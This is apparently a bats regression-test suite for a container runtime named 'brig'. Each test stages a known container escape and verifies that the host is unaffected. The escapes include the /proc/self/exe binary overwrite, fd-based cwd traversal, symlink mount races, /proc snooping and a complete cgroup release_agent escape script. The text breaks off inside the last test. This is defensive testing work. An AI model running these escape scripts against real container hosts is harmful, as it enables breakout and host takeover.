#!/usr/bin/env bats
# Known container escapes, each attempted from inside a container: a
# malicious image (rootfs content the test plants) or a process started with
# run/exec. Every test then checks that the host is untouched. The CVE named
# in a test's title is the class of attack, as it hit other runtimes.

# shellcheck disable=SC2016 # jq programs and scripts for the container
load helpers

RECVTTY=${RECVTTY:-$(dirname "$BRIG")/tests/tools/recvtty}

# A host directory the attacks aim at: nothing may ever appear in it, and it
# must never become a mount point.
setup() {
	setup_bundle
	HOST_TARGET=$BATS_TEST_TMPDIR/host-target
	mkdir -p "$HOST_TARGET"
	echo original >"$HOST_TARGET/file"
}

teardown() {
	[ -z "${RECVTTY_PID:-}" ] || kill "$RECVTTY_PID" 2>/dev/null || true
	restore_release_agents
	[ -z "${RO_MOUNT:-}" ] || umount -l "$RO_MOUNT" 2>/dev/null || true
	# The copy's read-only view that brig keeps for later runs of the same
	# file (brig(8) FILES): the copy goes with the test, so does its view.
	[ "$BRIG" != "$BATS_TEST_TMPDIR/brig-under-attack" ] || forget_selfexe_view "$BRIG"
	teardown_bundle
}

# assert_host_target_untouched: the host directory holds its one file,
# unchanged, and nothing is mounted on it.
assert_host_target_untouched() {
	[ "$(ls -A "$HOST_TARGET")" = file ] || fail "host target changed: $(ls -A "$HOST_TARGET")"
	[ "$(cat "$HOST_TARGET/file")" = original ] || fail "host file rewritten"
	refute grep -qF " $HOST_TARGET " /proc/self/mountinfo
}

# use_brig_copy: runs a private copy of the binary under test, so an attack
# that succeeded would damage only the copy, and its checksum tells.
use_brig_copy() {
	cp "$BRIG" "$BATS_TEST_TMPDIR/brig-under-attack"
	BRIG=$BATS_TEST_TMPDIR/brig-under-attack
	BRIG_SUM=$(sha256sum <"$BRIG")
}

# copy_loader_into_rootfs: the dynamic loader and libraries brig needs, so
# that an image tricking the kernel into running brig in the container gets
# it started (the busybox image has no libc of its own).
copy_loader_into_rootfs() {
	local lib
	for lib in $(ldd "$BRIG" | grep -o '/[^ ]*'); do
		mkdir -p "$ROOTFS$(dirname "$lib")"
		cp -L "$lib" "$ROOTFS$lib"
	done
}

# start_attacker NAME: installs the script on stdin as /bin/NAME in the
# image, starts the container (a sleeping init), and runs NAME in it with
# exec, in the background: its output goes to $BATS_TEST_TMPDIR/NAME.out,
# its pid to $ATTACKER.
start_attacker() {
	rm -f "$ROOTFS/bin/$1"
	cat >"$ROOTFS/bin/$1"
	chmod 755 "$ROOTFS/bin/$1"
	set_args sleep 100
	brig_detached run -d "$CID"
	brig exec "$CID" "/bin/$1" >"$BATS_TEST_TMPDIR/$1.out" 2>&1 3>&- &
	ATTACKER=$!
}

# ---------------------------------------------------- CVE-2019-5736 ----

# start_exe_attacker: from inside the container, catches any process whose
# executable is not the image's busybox, keeps its exe open, and tries to
# write through it until the last brig is gone (while brig runs: ETXTBSY).
start_exe_attacker() {
	# Each exe is opened with the shell's own redirection, and only one
	# that isn't busybox costs a fork: fast enough to scan a host's pid
	# namespace too.
	start_attacker attack <<-'EOF'
		#!/bin/sh
		end=$(($(date +%s) + 20))
		while [ "$(date +%s)" -lt "$end" ]; do
			for d in /proc/[0-9]*; do
				[ "${d#/proc/}" = $$ ] && continue
				# `command`: a failed redirection of a plain exec would end
				# the script when the process is gone before the open.
				command exec 3<"$d/exe" 2>/dev/null || continue
				[ /proc/self/fd/3 -ef /bin/busybox ] && continue
				echo "opened $(readlink /proc/self/fd/3)"
				i=0
				while [ $i -lt 3000 ]; do
					if { echo '#!/bin/sh' >&4; } 4<>/proc/self/fd/3; then
						echo WROTE; exit 0
					fi 2>/dev/null
					i=$((i + 1))
				done
				echo "no write"; exit 0
			done
		done
		echo "saw nothing"
	EOF
}

# run_self_exe_attack: an image whose "shell" makes the kernel execute
# whatever /proc/self/exe is at the moment brig execs it (brig itself),
# exec'd while the attacker watches.
run_self_exe_attack() {
	copy_loader_into_rootfs
	printf '#!/proc/self/exe\n' >"$ROOTFS/bin/evil"
	chmod 755 "$ROOTFS/bin/evil"
	start_exe_attacker
	sleep 0.5
	# Until the attacker has caught one (it stops then), at most 50.
	for _ in $(seq 50); do
		kill -0 "$ATTACKER" 2>/dev/null || break
		brig exec "$CID" /bin/evil >/dev/null 2>&1 || true
	done
	wait "$ATTACKER" || true
	cat "$BATS_TEST_TMPDIR/attack.out"
}

@test "CVE-2019-5736: an image whose program is #!/proc/self/exe can't rewrite the runtime binary" {
	use_brig_copy
	run_self_exe_attack
	# The attacker did get hold of brig's executable (the attack is real)...
	grep -q '^opened ' "$BATS_TEST_TMPDIR/attack.out"
	# ...but through a read-only clone of the file (or the sealed copy),
	# never by the host path, and not for writing.
	refute grep -qF "$BRIG" "$BATS_TEST_TMPDIR/attack.out"
	refute grep -q WROTE "$BATS_TEST_TMPDIR/attack.out"
	[ "$(sha256sum <"$BRIG")" = "$BRIG_SUM" ] || fail "the runtime binary was modified"
}

@test "CVE-2019-5736: an init that shares the host's pid namespace can't rewrite the runtime binary either" {
	# Without a pid namespace of its own the init is seen from its birth,
	# so brig moves itself onto the read-only file before the clone instead
	# of leaving that to the init. The attacker, in another container that
	# shares the host's pid namespace too, watches for the init that the
	# image's #!/proc/self/exe turns into brig.
	use_brig_copy
	update_config '.linux.namespaces |= map(select(.type != "pid"))'
	copy_loader_into_rootfs
	printf '#!/proc/self/exe\n' >"$ROOTFS/bin/evil"
	chmod 755 "$ROOTFS/bin/evil"
	start_exe_attacker
	sleep 0.5
	set_args /bin/evil
	for i in $(seq 60); do
		kill -0 "$ATTACKER" 2>/dev/null || break
		brig run "$CID-v$i" >/dev/null 2>&1 || true
	done
	wait "$ATTACKER" || true
	cat "$BATS_TEST_TMPDIR/attack.out"
	grep -q '^opened ' "$BATS_TEST_TMPDIR/attack.out"
	refute grep -qF "$BRIG" "$BATS_TEST_TMPDIR/attack.out"
	refute grep -q WROTE "$BATS_TEST_TMPDIR/attack.out"
	[ "$(sha256sum <"$BRIG")" = "$BRIG_SUM" ] || fail "the runtime binary was modified"
}

@test "CVE-2019-5736: the same attack on a brig told to re-execute instead of moving onto the read-only file" {
	# BRIG_SELFEXE=reexec takes the path brig falls back to where the
	# kernel won't move /proc/self/exe: a second execve from the clone.
	use_brig_copy
	export BRIG_SELFEXE=reexec
	run_self_exe_attack
	grep -q '^opened ' "$BATS_TEST_TMPDIR/attack.out"
	refute grep -qF "$BRIG" "$BATS_TEST_TMPDIR/attack.out"
	refute grep -q WROTE "$BATS_TEST_TMPDIR/attack.out"
	[ "$(sha256sum <"$BRIG")" = "$BRIG_SUM" ] || fail "the runtime binary was modified"
}

@test "CVE-2019-5736: a runtime on a read-only mount runs without the copy, and still can't be rewritten" {
	# brig skips the sealed copy when its file sits on a read-only mount
	# (the fast path): the attacker then reaches the file itself, and the
	# mount refuses the write.
	mkdir "$BATS_TEST_TMPDIR/ro"
	cp "$BRIG" "$BATS_TEST_TMPDIR/ro/brig"
	BRIG=$BATS_TEST_TMPDIR/ro/brig
	BRIG_SUM=$(sha256sum <"$BRIG")
	mount --bind "$BATS_TEST_TMPDIR/ro" "$BATS_TEST_TMPDIR/ro"
	mount -o remount,bind,ro "$BATS_TEST_TMPDIR/ro"
	RO_MOUNT=$BATS_TEST_TMPDIR/ro
	run_self_exe_attack
	grep -qF "opened $BRIG" "$BATS_TEST_TMPDIR/attack.out"
	refute grep -q WROTE "$BATS_TEST_TMPDIR/attack.out"
	[ "$(sha256sum <"$BRIG")" = "$BRIG_SUM" ] || fail "the runtime binary was modified"
}

@test "CVE-2019-5736: the executable of a joining exec or of the init is never the host's runtime file" {
	use_brig_copy
	# Every process that ever shows up in the container while execs join
	# it: what its exe link names, and whether it can be opened for writing.
	start_attacker exe-watch <<-'EOF'
		#!/bin/sh
		end=$(($(date +%s) + 6))
		while [ "$(date +%s)" -lt "$end" ]; do
			for d in /proc/[0-9]*/exe; do
				t=$(readlink "$d" 2>/dev/null) || continue
				case $t in */busybox) ;; *) echo "exe $t" ;; esac
				{ : >>"$d"; } 2>/dev/null && echo "writable $t"
			done
		done
	EOF
	for _ in $(seq 20); do
		brig exec "$CID" true
	done
	wait "$ATTACKER" || true
	refute grep -qF "$BRIG" "$BATS_TEST_TMPDIR/exe-watch.out"
	refute grep -q '^writable' "$BATS_TEST_TMPDIR/exe-watch.out"
	[ "$(sha256sum <"$BRIG")" = "$BRIG_SUM" ]
}

# ---------------------------------------------------- CVE-2024-21626 ----

@test "CVE-2024-21626: process.cwd /proc/self/fd/N never lands outside the container's root" {
	local n
	for n in $(seq 3 15); do
		update_config '.process.cwd = $c' --arg c "/proc/self/fd/$n"
		# From a host directory, enough `..` reaches the host's root.
		set_args sh -c "pwd; cd ../../../../../../../../../../..; ls -d .$HOST_TARGET 2>/dev/null && echo ESCAPED"
		run brig run "$CID-$n"
		[[ "$output" != *ESCAPED* ]] || fail "cwd /proc/self/fd/$n reached the host: $output"
		# Either refused, or a directory inside the container.
		[ "$status" -ne 0 ] || [[ "${lines[0]}" == /* ]] || fail "fd $n: $output"
	done
	assert_host_target_untouched
}

@test "CVE-2024-21626: exec --cwd /proc/self/fd/N never lands outside the container's root" {
	set_args sleep 100
	brig_detached run -d "$CID"
	local n
	for n in $(seq 3 15); do
		run brig exec --cwd "/proc/self/fd/$n" "$CID" sh -c "pwd; cd ../../../../../../../../../../..; ls -d .$HOST_TARGET 2>/dev/null && echo ESCAPED"
		[[ "$output" != *ESCAPED* ]] || fail "exec --cwd /proc/self/fd/$n reached the host: $output"
		[ "$status" -ne 0 ] || [[ "${lines[0]}" == /* ]] || fail "fd $n: $output"
	done
}

@test "CVE-2024-21626: a directory fd passed on purpose still can't be the cwd" {
	# --preserve-fds hands fd 3, a host directory, to the container: the
	# process may use it, but brig won't start it with its cwd out there.
	update_config '.process.cwd = "/proc/self/fd/3"'
	set_args sh -c 'pwd; ls'
	run --separate-stderr brig run --preserve-fds 1 "$CID" 3<"$HOST_TARGET"
	assert_one_line_error "outside the container's root"
	assert_no_leftovers "$CID"
}

@test "CVE-2024-21626: the init and an exec'd process hold no fd of the runtime" {
	set_args sleep 100
	brig_detached run -d "$CID"
	# Only stdio: the runtime's state, cgroup and bundle fds are gone.
	run brig exec "$CID" ls /proc/1/fd
	[ "$status" -eq 0 ]
	[ "$(squeeze "$output")" = "0 1 2" ]
	# (`; :` keeps sh from exec'ing ls, whose own directory fd would show.)
	run brig exec "$CID" sh -c 'ls /proc/$$/fd; :'
	[ "$status" -eq 0 ]
	[ "$(squeeze "$output")" = "0 1 2" ]
}

@test "CVE-2024-21626: args[0] through /proc/self/fd/N does not run a host program" {
	# Executables in the directories the runtime opens on the host: the
	# bundle and the state root.
	printf '#!/bin/sh\necho ESCAPED\n' >"$BUNDLE/escaped"
	mkdir -p "$ROOT"
	cp "$BUNDLE/escaped" "$ROOT/escaped"
	chmod 755 "$BUNDLE/escaped" "$ROOT/escaped"
	local n
	for n in $(seq 3 15); do
		set_args "/proc/self/fd/$n/escaped"
		run brig run "$CID-$n"
		[[ "$output" != *ESCAPED* ]] || fail "ran a host program through fd $n"
	done
}

# ------------------------------------------------ --no-pivot and procfs ----

@test "--no-pivot: a fresh procfs can't be mounted from new user, mount and pid namespaces" {
	# The host's /proc stays in the mount namespace under a chroot: fully
	# visible, it would let the kernel allow a procfs without the masks.
	mkdir -p "$ROOTFS/mnt/proc"
	# CAP_SETFCAP: what mapping root in a new user namespace asks (5.12).
	update_config '.root.readonly = false | .process.capabilities |= with_entries(.value += ["CAP_SETFCAP"])'
	set_args sh -c 'unshare -mrpf sh -c "mount -t proc proc /mnt/proc && echo MOUNTED || echo refused"; echo done'
	run brig run --no-pivot "$CID"
	echo "$output"
	[[ "$output" == *done* ]] || fail "the container did not run: $output"
	[[ "$output" != *MOUNTED* ]] || fail "a procfs without the masked paths was mounted"
	[[ "$output" == *refused* ]] || fail "unshare itself failed, nothing was tried: $output"
}

# ------------------------- CVE-2021-30465, CVE-2025-31133/52565/52881 ----

@test "CVE-2021-30465: a mount destination that is a symlink out of the rootfs is resolved inside it" {
	ln -s "$HOST_TARGET" "$ROOTFS/abs"
	ln -s "../../../../../../../../../..$HOST_TARGET/deeper" "$ROOTFS/rel"
	add_mount /abs/in-abs tmpfs tmpfs
	add_mount /rel tmpfs tmpfs
	# Shared propagation: a mount that landed on a host path would show on
	# the host.
	update_config '.linux.rootfsPropagation = "shared"'
	set_args sh -c "touch /abs/in-abs/planted /rel/planted && echo planted"
	run brig run "$CID"
	assert_host_target_untouched
	# As runc reads them: links in the rootfs as if it were "/".
	[ "$status" -eq 0 ] || fail "run: $output"
	[ "$output" = planted ]
	[ -d "$ROOTFS$HOST_TARGET/in-abs" ] && [ -d "$ROOTFS$HOST_TARGET/deeper" ]
	assert_no_leftovers "$CID"
}

@test "CVE-2021-30465: symlinks and .. inside mount destinations are resolved inside the rootfs" {
	mkdir -p "$ROOTFS/dir"
	ln -s "../../../../../../../../..$HOST_TARGET" "$ROOTFS/dir/deep"
	add_mount /dir/deep/sub tmpfs tmpfs
	add_mount "/dir/../../../../../..$HOST_TARGET/dotdot" tmpfs tmpfs
	add_bind_mount "$BATS_TEST_TMPDIR" /dir/deep/bound
	# Shared propagation: a mount that landed on a host path would show on
	# the host.
	update_config '.linux.rootfsPropagation = "shared"'
	set_args sh -c "touch $HOST_TARGET/sub/planted $HOST_TARGET/dotdot/planted && ls -d /dir/deep/bound/host-target"
	run brig run "$CID"
	echo "$output"
	assert_host_target_untouched
	# As if the rootfs were "/": brig made the directories under the
	# rootfs, and the container finds its mounts there.
	[ "$status" -eq 0 ]
	[ "$output" = /dir/deep/bound/host-target ]
	[ -d "$ROOTFS$HOST_TARGET/sub" ]
	[ -d "$ROOTFS$HOST_TARGET/dotdot" ]
}

@test "CVE-2021-30465: a directory swapped for a symlink to the host during create (race, 40 creates)" {
	add_mount /mnt/race tmpfs tmpfs
	update_config '.linux.rootfsPropagation = "shared"'
	set_args true
	# On the host, as a process sharing the image would: /mnt/race flips
	# between a directory and a symlink to the host target, as fast as it can.
	(
		while [ ! -e "$BATS_TEST_TMPDIR/stop" ]; do
			rm -rf "$ROOTFS/mnt/race"
			ln -sfn "$HOST_TARGET" "$ROOTFS/mnt/race"
			rm -rf "$ROOTFS/mnt/race"
			mkdir -p "$ROOTFS/mnt/race"
		done 2>/dev/null
		true
	) 3>&- &
	local swapper=$! i
	for i in $(seq 40); do
		brig run "$CID-$i" >/dev/null 2>&1 || true
		assert_host_target_untouched
	done
	touch "$BATS_TEST_TMPDIR/stop"
	wait "$swapper"
	assert_host_target_untouched
}

@test "CVE-2025-31133: /dev/null of the image swapped for a symlink or a file does not unmask anything" {
	# With /dev from the image (no /dev mount in the spec), masking binds
	# the image's /dev/null over /proc/kcore & co.
	update_config '.mounts |= map(select(.destination | startswith("/dev") | not))'
	mkdir -p "$ROOTFS/dev"
	local before
	before=$(cat /proc/sys/kernel/core_pattern)
	for target in /proc/sys/kernel/core_pattern /proc/sysrq-trigger "$HOST_TARGET/file"; do
		rm -f "$ROOTFS/dev/null"
		ln -s "$target" "$ROOTFS/dev/null"
		set_args sh -c 'echo "|/bin/evil" >/proc/kcore; cat /proc/kcore | head -c 20'
		run --separate-stderr brig run "$CID"
		# Refused before the process ever runs.
		assert_one_line_error /dev/null
		assert_no_leftovers "$CID"
	done
	# A regular file with content in its place.
	rm -f "$ROOTFS/dev/null"
	echo SECRET >"$ROOTFS/dev/null"
	run --separate-stderr brig run "$CID"
	assert_one_line_error /dev/null
	[ "$(cat /proc/sys/kernel/core_pattern)" = "$before" ]
	assert_host_target_untouched
}

@test "CVE-2025-31133: masked and read-only paths that are symlinks to host paths are resolved in the rootfs" {
	ln -s "$HOST_TARGET" "$ROOTFS/masked-dir"
	echo original >"$BATS_TEST_TMPDIR/host-file"
	ln -s "../../../../../../../../..$BATS_TEST_TMPDIR/host-file" "$ROOTFS/masked-file"
	ln -s "$HOST_TARGET" "$ROOTFS/ro-dir"
	# What the links name when the rootfs is "/".
	mkdir -p "$ROOTFS$HOST_TARGET"
	echo in-rootfs >"$ROOTFS$HOST_TARGET/file"
	echo in-rootfs >"$ROOTFS$BATS_TEST_TMPDIR/host-file"
	update_config '.linux.maskedPaths += ["/masked-dir", "/masked-file"] | .linux.readonlyPaths += ["/ro-dir"]'
	update_config '.linux.rootfsPropagation = "shared"'
	update_config '.root.readonly = false'
	set_args sh -c 'ls /masked-dir | wc -l; cat /masked-file | wc -c; touch /ro-dir/x 2>/dev/null || echo read-only'
	run brig run "$CID"
	echo "$output"
	[ "$status" -eq 0 ]
	[ "$(squeeze "$output")" = "0 0 read-only" ]
	assert_host_target_untouched
	[ "$(cat "$BATS_TEST_TMPDIR/host-file")" = original ]
	refute grep -qF " $BATS_TEST_TMPDIR/host-file " /proc/self/mountinfo
}

@test "CVE-2025-52565: /dev/console and /dev/ptmx of the image swapped for symlinks to /proc files are not written through" {
	[ -x "$RECVTTY" ] || fail "no recvtty at $RECVTTY (make builds it)"
	# /dev from the image, not brig's tmpfs: its nodes are the attacker's.
	update_config '.mounts |= map(select(.destination | startswith("/dev") | not))'
	update_config '.process.terminal = true'
	mkdir -p "$ROOTFS/dev"
	mknod -m 666 "$ROOTFS/dev/null" c 1 3
	ln -s /proc/sys/kernel/core_pattern "$ROOTFS/dev/console"
	ln -s /proc/sysrq-trigger "$ROOTFS/dev/ptmx"
	local before sock=$BATS_TEST_TMPDIR/tty.sock
	before=$(cat /proc/sys/kernel/core_pattern)
	"$RECVTTY" "$sock" >"$BATS_TEST_TMPDIR/tty.out" 2>/dev/null 3>&- &
	RECVTTY_PID=$!
	for _ in $(seq 50); do
		[ -S "$sock" ] && break
		sleep 0.1
	done
	set_args sh -c 'echo "|/bin/evil" >/dev/console'
	run --separate-stderr brig run -d --console-socket "$sock" "$CID"
	# The pty comes from the kernel, never from a path of the image.
	assert_one_line_error /dev/ptmx
	assert_no_leftovers "$CID"
	[ "$(cat /proc/sys/kernel/core_pattern)" = "$before" ]
	# Nothing ever connected to it.
	[ ! -s "$BATS_TEST_TMPDIR/tty.out" ]
}

@test "CVE-2025-52881: /proc of the image swapped for a symlink can't redirect the runtime's /proc writes" {
	# The image's /proc points at look-alike files: brig's own writes
	# (sysctls, oom_score_adj) would land there.
	mkdir -p "$ROOTFS/fake/sys/kernel" "$ROOTFS/fake/self"
	echo fake >"$ROOTFS/fake/sys/kernel/domainname"
	echo fake >"$ROOTFS/fake/self/oom_score_adj"
	rmdir "$ROOTFS/proc"
	ln -s /fake "$ROOTFS/proc"
	update_config '.linux.sysctl = {"kernel.domainname": "brig-test"} | .process.oomScoreAdj = 123'
	set_args sh -c 'cat /proc/sys/kernel/domainname /proc/self/oom_score_adj'
	run --separate-stderr brig run "$CID"
	assert_one_line_error "\`/proc\`" symlink
	assert_no_leftovers "$CID"
	[ "$(cat "$ROOTFS/fake/sys/kernel/domainname")" = fake ]
	[ "$(cat "$ROOTFS/fake/self/oom_score_adj")" = fake ]
}

@test "CVE-2025-52881: a mount over /proc/sys can't take the runtime's sysctl writes" {
	mkdir -p "$ROOTFS/fake/sys/kernel"
	echo fake >"$ROOTFS/fake/sys/kernel/domainname"
	add_bind_mount "$ROOTFS/fake/sys" /proc/sys
	update_config '.linux.sysctl = {"kernel.domainname": "brig-test"}'
	set_args cat /proc/sys/kernel/domainname
	run --separate-stderr brig run "$CID"
	# Written only through procfs, never through what is mounted over it.
	assert_one_line_error kernel.domainname "not on procfs"
	assert_no_leftovers "$CID"
	[ "$(cat "$ROOTFS/fake/sys/kernel/domainname")" = fake ]
	[ "$(cat /proc/sys/kernel/domainname)" != brig-test ]
}

@test "CVE-2016-9962: a joining exec can't be read through /proc before its execve" {
	# The attacker reads what it can of every other process, in a tight
	# loop, while execs join the container: until its execve, a joining
	# process is brig, with the caller's environment and the namespace
	# fds it entered by.
	start_attacker snoop <<-'EOF'
		#!/bin/sh
		end=$(($(date +%s) + 6))
		while [ "$(date +%s)" -lt "$end" ]; do
			for d in /proc/[0-9]*; do
				[ "${d#/proc/}" = $$ ] && continue
				tr '\0' '\n' <"$d/environ" 2>/dev/null | grep HOST_SECRET
				ls -l "$d/fd/" 2>/dev/null | grep -E '(mnt|net|pid|ipc|uts|user|cgroup|time):\[|memfd:' | sed 's/^/fd /'
				readlink "$d/exe" 2>/dev/null | grep -v busybox | sed 's/^/exe /'
			done
		done
	EOF
	for _ in $(seq 25); do
		HOST_SECRET=$MARK-secret brig exec "$CID" true
	done
	wait "$ATTACKER" || true
	cat "$BATS_TEST_TMPDIR/snoop.out"
	refute grep -q "HOST_SECRET" "$BATS_TEST_TMPDIR/snoop.out"
	refute grep -q '^fd ' "$BATS_TEST_TMPDIR/snoop.out"
	refute grep -q '^exe ' "$BATS_TEST_TMPDIR/snoop.out"
}

@test "CVE-2016-9962: the init's /proc entries are closed to the container until it has exec'd" {
	set_args sleep 100
	brig_detached create "$CID"
	local pid
	pid=$(container_pid "$CID")
	# Seen from the host, the waiting init runs brig from a read-only
	# clone of its file or a sealed copy: even root can't open it to write.
	if { : >>"/proc/$pid/exe"; } 2>/dev/null; then
		fail "init exe writable: $(readlink "/proc/$pid/exe")"
	fi
	cmp "$BRIG" "/proc/$pid/exe" || fail "init exe is not brig"
	# The container's root, in an exec, goes for the waiting init.
	probe='for f in environ mem; do cat /proc/1/$f >/dev/null 2>&1 && echo "read $f"; done
		ls -l /proc/1/fd/ 2>/dev/null | grep -q -- "->" && echo "read fd links"
		readlink /proc/1/exe >/dev/null 2>&1 && echo "read exe"
		cat /proc/1/environ 2>/dev/null | tr "\0" "\n" | grep -c BRIG_TEST_MARK'
	run brig exec "$CID" sh -c "$probe"
	[ "$output" = 0 ] || fail "the init before execve: $output"
	# Once it runs the container's program, the same reads work: the
	# probe can see what it is denied.
	brig start "$CID"
	run brig exec "$CID" sh -c "$probe"
	[[ "$output" == *"read environ"* ]] || fail "after start: $output"
	[[ "$output" == *"read fd links"* ]] || fail "after start: $output"
	[ "${lines[-1]}" = 1 ]
}

# ---------------------------------------------------- CVE-2022-29162 ----

@test "CVE-2022-29162: inheritable capabilities are empty unless asked for, for the init and every exec" {
	set_args sh -c 'grep -E "^Cap(Inh|Amb)" /proc/self/status; sleep 100'
	brig_detached run -d "$CID"
	wait_for_line "$CT_OUT" "CapAmb:	0000000000000000"
	grep -qx "CapInh:	0000000000000000" "$CT_OUT"
	run brig exec "$CID" grep -E '^Cap(Inh|Amb)' /proc/self/status
	[ "${lines[0]}" = "CapInh:	0000000000000000" ]
	[ "${lines[1]}" = "CapAmb:	0000000000000000" ]
	# A non-root user, with --cap given to exec: still no inheritable.
	run brig exec --user 1000:1000 --cap CAP_NET_RAW "$CID" grep -E '^Cap(Inh|Eff)' /proc/self/status
	[ "${lines[0]}" = "CapInh:	0000000000000000" ]
	# A setuid-root or file-capability program can't pick up more than the
	# bounding set either: an exec'd process's CapBnd is the container's.
	run brig exec "$CID" grep '^CapBnd' /proc/self/status
	[ "$output" = "CapBnd:	0000000020000420" ]
}

@test "CVE-2022-29162: inheritable capabilities the spec asks for are there" {
	update_config '.process.capabilities.inheritable = ["CAP_KILL"]'
	set_args grep '^CapInh' /proc/self/status
	run brig run "$CID"
	[ "$output" = "CapInh:	0000000000000020" ]
}

# ---------------------------------------------------- CVE-2022-0492 ----

# The host's cgroup v1 hierarchies: the mount points of type cgroup under
# /sys/fs/cgroup (not the links beside them, nor a hybrid host's v2 tree).
v1_hierarchies() {
	local h
	for h in /sys/fs/cgroup/*; do
		[ ! -L "$h" ] && [ "$(stat -f -c %T "$h")" = cgroupfs ] && echo "$h"
	done
	return 0
}

require_cgroup_v1() {
	[ -n "$(v1_hierarchies)" ] || skip "the host has no cgroup v1 hierarchy"
}

# release_agents: every v1 hierarchy of the host and its release_agent, a
# line each.
release_agents() {
	local h
	for h in $(v1_hierarchies); do
		printf '%s %s\n' "$h" "$(cat "$h/release_agent")"
	done
}

# save_release_agents: what teardown puts back should an attack change one.
save_release_agents() {
	release_agents >"$BATS_TEST_TMPDIR/release_agents"
}

restore_release_agents() {
	local h agent
	[ -f "${BATS_TEST_TMPDIR:-}/release_agents" ] || return 0
	while read -r h agent; do
		[ "$(cat "$h/release_agent")" = "$agent" ] || echo "$agent" >"$h/release_agent"
	done <"$BATS_TEST_TMPDIR/release_agents"
}

# A release agent in the image, named by its host path: the kernel would
# run it as root in the host's namespaces (an attacker reads where its
# rootfs is from mountinfo). It leaves a mark in the host target.
plant_release_agent() {
	RELEASE_AGENT=$ROOTFS/bin/release-agent
	printf '#!/bin/sh\ntouch %s/released\n' "$HOST_TARGET" >"$RELEASE_AGENT"
	chmod 755 "$RELEASE_AGENT"
}

@test "CVE-2022-0492: the container's cgroup v1 hierarchies are read-only, with or without a cgroup namespace" {
	require_cgroup_v1
	# Values written back as they are, so a broken runtime changes nothing.
	set_args sh -c '
		for h in /sys/fs/cgroup/*; do
			[ -L "$h" ] && continue
			for f in notify_on_release cgroup.procs cgroup.clone_children; do
				[ -e "$h/$f" ] || continue
				v=$(head -n1 "$h/$f")
				{ echo "${v:-0}" >"$h/$f"; } 2>/dev/null && echo "wrote $h/$f"
			done
			mkdir "$h/child" 2>/dev/null && echo "made $h/child"
		done
		f=/sys/fs/cgroup/memory/memory.limit_in_bytes
		v=$(cat $f) && echo "read $f"
		{ echo "$v" >$f; } 2>&1
		echo end'
	for ns in with without; do
		[ "$ns" = with ] || update_config '.linux.namespaces |= map(select(.type != "cgroup"))'
		run brig run "$CID-$ns"
		echo "$output"
		[ "$status" -eq 0 ]
		refute grep -qE '^(wrote|made) ' <<<"$output"
		grep -qx "read /sys/fs/cgroup/memory/memory.limit_in_bytes" <<<"$output"
		[[ "${lines[-2]}" == *"Read-only file system"* ]] || fail "$ns: ${lines[-2]}"
		[ "${lines[-1]}" = end ]
	done
}

@test "CVE-2022-0492: a hierarchy mounted afresh in the container's cgroup namespace has no release_agent" {
	require_cgroup_v1
	update_config '.process.capabilities |= with_entries(.value += ["CAP_SYS_ADMIN"])'
	add_mount /tmp tmpfs tmpfs
	# Every v1 hierarchy the container is in, by the controllers that
	# name it ("memory", "cpu,cpuacct", "name=systemd").
	set_args sh -c '
		for c in $(cut -d: -f2 /proc/self/cgroup); do
			mkdir -p "/tmp/$c"
			mount -t cgroup -o "$c" cgroup "/tmp/$c" || continue
			echo "mounted $c"
			[ -e "/tmp/$c/release_agent" ] && echo "release_agent in $c"
			umount "/tmp/$c"
		done
		echo end'
	run brig run "$CID"
	echo "$output"
	[ "$status" -eq 0 ]
	grep -qx "mounted memory" <<<"$output"
	[ "$(grep -c '^mounted ' <<<"$output")" -eq "$(v1_hierarchies | wc -l)" ]
	refute grep -q '^release_agent in' <<<"$output"
	[ "${lines[-1]}" = end ]
}

@test "CVE-2022-0492: a release agent set from the container never runs on the host" {
	require_cgroup_v1
	save_release_agents
	plant_release_agent
	# CAP_DAC_OVERRIDE too: a hierarchy's root directory is r-x even to
	# its owner, and the attack would make a child cgroup there.
	update_config '.process.capabilities |= with_entries(.value += ["CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE"])'
	add_mount /tmp tmpfs tmpfs
	# try_agent DIR: a cgroup v1 mount the container holds, turned into an
	# escape if the kernel lets it: its release agent set (file, then
	# remount), a child with notify_on_release, a process in it that exits.
	set_args sh -c '
		agent=$1
		try_agent() {
			{ echo "$agent" >"$1/release_agent"; } 2>/dev/null && echo "set release_agent in $1"
			mount -o "remount,$2,release_agent=$agent" "$1" 2>/dev/null && echo "remounted $1"
			mkdir "$1/escape" 2>/dev/null || return 0
			echo 1 >"$1/escape/notify_on_release"
			sh -c "echo \$\$ >$1/escape/cgroup.procs"
			sleep 0.2
			rmdir "$1/escape"
		}
		# The mounts brig made, remounted with a release agent.
		grep " - cgroup " /proc/self/mountinfo | while read -r line; do
			opts=${line##* }
			opts=${opts#r[ow],}
			try_agent "$(echo "$line" | cut -d" " -f5)" "$opts"
		done
		# Each hierarchy mounted afresh, read-write.
		for c in $(cut -d: -f2 /proc/self/cgroup); do
			mkdir -p "/tmp/$c"
			mount -t cgroup -o "$c" cgroup "/tmp/$c" || continue
			echo "mounted $c"
			try_agent "/tmp/$c" "$c"
			umount "/tmp/$c"
		done
		# New hierarchies: a named one, and each controller the host left
		# out of v1 (whose root would have a release_agent).
		for c in none,name=brig-escape $(awk "NR > 1 && \$2 == 0 { print \$1 }" /proc/cgroups); do
			mkdir -p "/tmp/new-$c"
			mount -t cgroup -o "$c" cgroup "/tmp/new-$c" 2>/dev/null || continue
			echo "made hierarchy $c"
			try_agent "/tmp/new-$c" "$c"
			umount "/tmp/new-$c"
		done
		echo end' attack "$RELEASE_AGENT"
	run brig run "$CID"
	echo "$output"
	[ "$status" -eq 0 ]
	[ "${lines[-1]}" = end ]
	# The attack did reach the hierarchies (it isn't vacuous) and nothing
	# of it worked.
	grep -qx "mounted memory" <<<"$output"
	refute grep -qE '^(set release_agent|remounted|made hierarchy) ' <<<"$output"
	# The kernel starts an agent from a work queue: give it time to.
	sleep 3
	assert_host_target_untouched
	[ "$(release_agents)" = "$(cat "$BATS_TEST_TMPDIR/release_agents")" ]
}

@test "CVE-2022-0492: the default seccomp profile refuses cgroup mounts even with CAP_SYS_ADMIN" {
	require_cgroup_v1
	save_release_agents
	plant_release_agent
	update_config '.linux.seccomp = $p[0]' --slurpfile p "${top_srcdir:-$BATS_TEST_DIRNAME/../..}/seccomp-profiles/default.json"
	update_config '.process.capabilities |= with_entries(.value += ["CAP_SYS_ADMIN"])'
	add_mount /tmp tmpfs tmpfs
	set_args sh -c '
		mkdir /tmp/m
		mount -t cgroup -o memory cgroup /tmp/m 2>&1
		mount -o "remount,memory,release_agent=$1" /sys/fs/cgroup/memory 2>&1
		echo end' attack "$RELEASE_AGENT"
